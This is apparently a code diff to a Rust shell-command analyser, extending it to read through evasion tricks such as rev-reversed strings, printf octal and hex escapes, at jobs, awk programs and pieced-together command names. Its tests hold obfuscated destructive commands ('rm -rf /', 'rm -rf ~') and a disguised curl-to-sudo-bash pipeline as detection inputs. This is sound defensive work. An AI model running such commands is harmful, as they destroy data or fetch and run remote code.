@@ -38,6 +38,10 @@ pub struct Invocation {
     /// that the reader cannot see through (`… | rev | tr … | sh`,
     /// `openssl enc -d … | bash`); a download piped in is not counted.
     pub opaque_input: bool,
+    /// The command word (basename, after the reader's expansions) of the
+    /// first command of the pipeline feeding its stdin, when it has one:
+    /// `c=cu; c+=rl; $c -s URL | bash` gives `bash` the source `curl`.
+    pub pipe_source: String,
 }
 
 impl Invocation {
@@ -190,6 +194,37 @@ fn printed_substitution(cmd: &SimpleCommand, before: &SimpleCommand) -> Option<S
     Some(out)
 }
 
+/// `eval "$(echo 'hs | … lruc' | rev)"`: a substitution made of a literal
+/// `echo`/`printf` piped through `rev` prints the text reversed.
+fn reversed_substitution(
+    cmd: &SimpleCommand,
+    source: &SimpleCommand,
+    rev: &SimpleCommand,
+) -> Option<SimpleCommand> {
+    let is_rev = rev.words.len() == 1
+        && basename(&rev.words[0]) == "rev"
+        && rev.stdin == Stdin::Pipe
+        && !rev.pipes_out
+        && rev.redirects.is_empty();
+    if !is_rev || !source.pipes_out || source.stdin != Stdin::Inherited {
+        return None;
+    }
+    let text = echoed_text(source)?;
+    if text.contains(reader::SUBSTITUTION) {
+        return None;
+    }
+    let reversed: String = text
+        .lines()
+        .map(|l| l.chars().rev().collect::<String>())
+        .collect::<Vec<_>>()
+        .join("\n");
+    let marker = reader::SUBSTITUTION;
+    let at = cmd.words.iter().position(|w| w.contains(marker))?;
+    let mut out = cmd.clone();
+    out.words[at] = out.words[at].replacen(marker, reversed.trim_end(), 1);
+    Some(out)
+}
+
 /// `printf FORMAT ARGS…` for `%s`/`%b`/`%d` and `\n`, the format reused
 /// while arguments remain (as printf does).
 fn printf(format: &str, args: &[&str]) -> String {
@@ -214,6 +249,42 @@ fn printf(format: &str, args: &[&str]) -> String {
                 ('\\', Some('n')) => {
                     chars.next();
                     out.push('\n');
+                }
+                ('\\', Some('t')) => {
+                    chars.next();
+                    out.push('\t');
+                }
+                ('\\', Some('\\')) => {
+                    chars.next();
+                    out.push('\\');
+                }
+                // `\162\155` (octal) and `\x72\x6d` (hex): the bytes they name.
+                ('\\', Some('0'..='7')) => {
+                    let mut v = 0u32;
+                    for _ in 0..3 {
+                        match chars.peek().and_then(|d| d.to_digit(8)) {
+                            Some(d) => {
+                                v = v * 8 + d;
+                                chars.next();
+                            }
+                            None => break,
+                        }
+                    }
+                    out.push(char::from_u32(v).unwrap_or('?'));
+                }
+                ('\\', Some('x')) => {
+                    chars.next();
+                    let mut v = 0u32;
+                    for _ in 0..2 {
+                        match chars.peek().and_then(|d| d.to_digit(16)) {
+                            Some(d) => {
+                                v = v * 16 + d;
+                                chars.next();
+                            }
+                            None => break,
+                        }
+                    }
+                    out.push(char::from_u32(v).unwrap_or('?'));
                 }
                 _ => out.push(c),
             }
@@ -277,7 +348,10 @@ impl Walk {
                 continue;
             }
             let cmd = match i.checked_sub(1).map(|j| &parsed.commands[j]) {
-                Some(before) => printed_substitution(cmd, before),
+                Some(before) => printed_substitution(cmd, before).or_else(|| {
+                    let source = &parsed.commands[i.checked_sub(2)?];
+                    reversed_substitution(cmd, source, before)
+                }),
                 None => None,
             };
             let cmd = cmd.as_ref().unwrap_or(&parsed.commands[i]);
@@ -333,6 +407,7 @@ impl Walk {
             stdin_text: cmd.stdin_text.clone(),
             depth,
             opaque_input: false,
+            pipe_source: pipeline_source(cmd, prev),
         };
         // `echo / | xargs rm -rf`: the piped words become arguments.
         if inv.wrappers.iter().any(|w| w == "xargs") {
@@ -376,6 +451,16 @@ impl Walk {
             }
             return;
         }
+        // awk's program is its first operand (`awk 'BEGIN{system(…)}'`).
+        if matches!(
+            name.as_str(),
+            "awk" | "gawk" | "mawk" | "nawk" | "busybox-awk"
+        ) {
+            if let Some(program) = awk_program(&args) {
+                self.code(&name, program, depth);
+            }
+            return;
+        }
         if let Some(flags) = interpreter_flags(&name) {
             if let Some(code) = option_value(&args, flags) {
                 self.code(&name, code, depth);
@@ -390,6 +475,13 @@ impl Walk {
         }
         match name.as_str() {
             "eval" => self.reread(&args.join(" "), depth),
+            // `echo CMD | at now + 10 minutes`: at and batch read the job's
+            // command lines from stdin (unless `-f FILE` names them).
+            "at" | "batch" if !args.iter().any(|a| a == "-f" || a == "-l" || a == "-r") => {
+                for text in fed_text(cmd, prev) {
+                    self.reread(&text, depth);
+                }
+            }
             "su" | "runuser" | "script" | "sg" => {
                 if let Some(script) = option_value(&args, &["-c", "--command"]) {
                     self.reread(&script, depth);
@@ -400,16 +492,39 @@ impl Walk {
                     .iter()
                     .position(|a| matches!(a.as_str(), "-exec" | "-execdir" | "-ok" | "-okdir"))
                 {
+                    // `{}` is the root itself, or, when a test narrows what
+                    // is found (`-name`, `-mtime`, …), an entry under it.
+                    let root = args.first().cloned().unwrap_or_default();
+                    let narrowed = args[..at].iter().any(|a| {
+                        matches!(
+                            a.as_str(),
+                            "-name"
+                                | "-iname"
+                                | "-path"
+                                | "-ipath"
+                                | "-regex"
+                                | "-iregex"
+                                | "-mtime"
+                                | "-mmin"
+                                | "-atime"
+                                | "-amin"
+                                | "-ctime"
+                                | "-newer"
+                                | "-size"
+                                | "-user"
+                                | "-mindepth"
+                                | "-empty"
+                        )
+                    });
+                    let found = if narrowed && !root.starts_with('-') {
+                        format!("{}/{{}}", root.trim_end_matches('/'))
+                    } else {
+                        root
+                    };
                     let inner: Vec<String> = args[at + 1..]
                         .iter()
                         .take_while(|a| a.as_str() != ";" && a.as_str() != "+")
-                        .map(|a| {
-                            if a == "{}" {
-                                args.first().cloned().unwrap_or_default()
-                            } else {
-                                a.clone()
-                            }
-                        })
+                        .map(|a| if a == "{}" { found.clone() } else { a.clone() })
                         .collect();
                     self.words(inner, depth);
                 }
@@ -518,6 +633,30 @@ fn container_command(args: &[String]) -> Vec<String> {
         .unwrap_or_default()
 }
 
+/// The first command of the pipeline feeding `cmd`, wrappers peeled.
+fn pipeline_source(cmd: &SimpleCommand, prev: Option<&[SimpleCommand]>) -> String {
+    if cmd.stdin != Stdin::Pipe {
+        return String::new();
+    }
+    let Some(stages) = prev else {
+        return String::new();
+    };
+    // Walk back at most this many stages (every command of a long pipeline
+    // asks, so an unbounded walk would be quadratic).
+    const MAX_STAGES: usize = 64;
+    let mut from = stages.len();
+    while from > 0 && stages[from - 1].pipes_out {
+        from -= 1;
+        if stages.len() - from > MAX_STAGES {
+            return String::new();
+        }
+    }
+    stages
+        .get(from)
+        .and_then(|s| peel(&s.words).map(|i| basename(&s.words[i]).to_owned()))
+        .unwrap_or_default()
+}
+
 /// Whether the pipeline feeding a shell starts with text we could see but
 /// passes it through a transformation we do not evaluate.
 fn opaque_pipeline(prev: Option<&[SimpleCommand]>) -> bool {
@@ -532,6 +671,25 @@ fn opaque_pipeline(prev: Option<&[SimpleCommand]>) -> bool {
     };
     let literal_source = echoed_text(source).is_some() || !source.stdin_text.is_empty();
     literal_source && pipeline.len() > 1
+}
+
+/// The program text of an awk command line: the first operand after the
+/// options (`-F SEP`, `-v NAME=VALUE`); none when `-f FILE` names it.
+fn awk_program(args: &[String]) -> Option<String> {
+    let mut it = args.iter();
+    while let Some(a) = it.next() {
+        match a.as_str() {
+            "-f" | "--file" => return None,
+            "-F" | "-v" | "--assign" | "--field-separator" => {
+                it.next();
+            }
+            "--" => return it.next().cloned(),
+            _ if a.starts_with("-f") => return None,
+            _ if a.starts_with('-') && a.len() > 1 => {}
+            _ => return Some(a.clone()),
+        }
+    }
+    None
 }
 
 /// `-c SCRIPT` (also `-lc`, `-ec`, `-xc`): the script a shell is given.
@@ -589,6 +747,10 @@ fn positionals<'w>(args: &'w [String], with_arg: &[&str]) -> Vec<&'w str> {
 fn echoed_text(source: &SimpleCommand) -> Option<String> {
     let first = source.words.first().map(|w| basename(w))?;
     match first {
+        "printf" if source.words.len() > 1 => {
+            let args: Vec<&str> = source.words[2..].iter().map(String::as_str).collect();
+            Some(printf(&source.words[1], &args))
+        }
         "echo" | "printf" => Some(
             source.words[1..]
                 .iter()
@@ -770,6 +932,46 @@ mod tests {
         }
         let script = commands_run(&s);
         assert!(script.problems.iter().any(|p| p.contains("deep")));
+    }
+
+    #[test]
+    fn round3_evasions_are_read() {
+        // printf escapes piped to a shell, `at` jobs, appended variables.
+        assert!(runs_rm_root(
+            r"printf '\162\155\040\055\162\146\040\176' | sh"
+        ));
+        assert!(runs_rm_root(r"printf '\x72\x6d -rf /' | bash"));
+        assert!(runs_rm_root("echo 'rm -rf ~' | at now + 10 minutes"));
+        assert!(!runs_rm_root("echo 'rm -rf ~' | at -l"));
+        assert!(runs("c=cu; c+=rl; $c -s x")
+            .iter()
+            .any(|w| w.first().is_some_and(|c| c == "curl")));
+        assert_eq!(runs("a=b; a+=c; echo $a").last().unwrap(), &["echo", "bc"]);
+        // `find` with a test: `{}` is an entry under the root.
+        assert!(runs("find /tmp -name 'x*' -exec rm -rf {} +")
+            .iter()
+            .any(|w| w == &["rm", "-rf", "/tmp/{}"]));
+        assert!(runs_rm_root("find / -exec rm -rf {} +"));
+        // A literal reversed through `rev` in a substitution.
+        assert!(runs_rm_root(r#"eval "$(echo '/ fr- mr' | rev)""#));
+        // The pipeline's source is kept, after expansions.
+        let s = commands_run("c=cu; c+=rl; s=ba; s+=sh; $c -s https://x.example/a | sudo $s");
+        assert_eq!(s.commands.last().unwrap().name(), "bash");
+        assert_eq!(s.commands.last().unwrap().pipe_source, "curl");
+        assert_eq!(commands_run("ls | wc -l").commands[0].pipe_source, "");
+        // awk's program is code.
+        let s = commands_run(r#"awk -F: 'BEGIN{system("rm -rf " ENVIRON["HOME"])}'"#);
+        assert!(s.code[0].text.contains("system("));
+        assert!(commands_run("awk -f prog.awk data.txt").code.is_empty());
+        // A fresh temporary directory keeps a marker of its own.
+        let s = runs("tmp=$(mktemp -d) && rm -rf \"$tmp\"");
+        assert!(s
+            .iter()
+            .any(|w| w == &["rm", "-rf", crate::TEMP_SUBSTITUTION]));
+        let s = runs("d=$(mktemp -p /etc) && rm -rf \"$d\"");
+        assert!(!s
+            .iter()
+            .any(|w| w == &["rm", "-rf", crate::TEMP_SUBSTITUTION]));
     }
 
     fn shell_quote(s: &str) -> String {
